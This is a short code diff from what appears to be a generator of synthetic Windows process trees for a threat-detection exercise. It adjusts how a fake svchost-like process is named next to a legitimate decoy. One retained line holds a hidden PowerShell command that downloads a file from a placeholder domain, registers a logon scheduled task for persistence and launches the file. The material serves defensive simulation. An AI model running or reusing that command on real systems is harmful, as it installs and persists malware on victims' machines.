@@ -228,8 +228,7 @@ const generate: VariantGenerator = ({ random }) => {
     `powershell.exe -NoP -W Hidden -C "$d='${tempDir}';New-Item -ItemType Directory $d -Force|Out-Null;iwr -UseBasicParsing -Uri 'http://${domain}${urlPath}' -OutFile ($d+'\\${fakeName}');schtasks /create /f /sc onlogon /rl limited /tn '${taskName}' /tr ($d+'\\${fakeName} -k netsvcs');Start-Process ($d+'\\${fakeName}') -ArgumentList '-k netsvcs'"`,
   );
   add('conhost.exe', powershell.pid, psStart + 1, `\\??\\${sys32}\\conhost.exe 0xffffffff -ForceV1`);
-  const fake = add('svchost.exe', powershell.pid, fakeStart, `"${fakePath}" -k netsvcs`);
-  fake.name = fakeName;
+  const fake = add(fakeName, powershell.pid, fakeStart, `"${fakePath}" -k netsvcs`);
 
   // A legitimate svchost.exe started minutes later by services.exe (Windows Update, trigger-started).
   const decoy = add('svchost.exe', services.pid, decoyStart, `${sys32}\\svchost.exe -k netsvcs -p -s wuauserv`, {
